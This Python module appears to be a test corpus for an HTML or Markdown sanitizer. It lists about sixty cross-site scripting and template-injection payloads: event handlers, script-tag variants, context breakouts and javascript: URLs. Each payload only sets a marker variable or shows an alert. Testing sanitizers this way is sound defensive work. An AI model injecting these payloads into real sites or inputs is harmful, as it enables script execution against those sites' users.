"""Sixty ways to make a page run what it should only show. Each would set `window.pwned` or open a dialog."""

from __future__ import annotations

RUN = "window.pwned=1,alert(1)"
_EVENTS = (
    *(
        f"<{tag} src=x onerror={RUN}>"
        for tag in ("img", "audio", "video", "input type=image", "script", "embed")
    ),
    *(
        f"<{tag} autofocus onfocus={RUN} tabindex=0>"
        for tag in ("input", "select", "textarea", "button", "a href=#")
    ),
    *(
        f"<{tag} onload={RUN}>"
        for tag in ("svg", "body", "iframe", "object data=x", "link rel=stylesheet href=x")
    ),
    f"<details open ontoggle={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<video><source onerror={RUN}></video>",
)
_SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<svg><script>{RUN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<script src=data:text/javascript,window.pwned=1></script>",
    f"<template><script>{RUN}</script></template>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
)
_BREAKOUTS = (
    *tuple(
        f"{end}<script>{RUN}</script>"
        for end in (
            '">',
            "'>",
            "</textarea>",
            "</title>",
            "</style>",
            "</pre>",
            "</code>",
            "</option></select>",
            "-->",
        )
    ),
    f'" onmouseover={RUN} x="',
    f"' autofocus onfocus={RUN} x='",
    f"`><img src=x onerror={RUN}>",
)
_ADDRESSES = (
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"![x](javascript:{RUN})",
    f"<javascript:{RUN}>",
    f"[x]: javascript:{RUN}",
    f'<a href="javascript:{RUN}">x</a>',
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<base href=javascript:{RUN}//>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
)
_TEMPLATES = (
    "{{ 7*7 }}{{ self.__init__.__globals__ }}",
    "{% raw %}" + f"<script>{RUN}</script>",
    "${" + RUN + "}",
    f'<a hx-get="/" hx-on::load="{RUN}" hx-trigger="load">x</a>',
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\u2028<script>{RUN}</script>",
    f"<p style=background:url(javascript:{RUN})>x</p>",
    f"<style>@import 'javascript:{RUN}';</style>",
)
PAYLOADS = (*_EVENTS, *_SCRIPTS, *_BREAKOUTS, *_ADDRESSES, *_TEMPLATES)
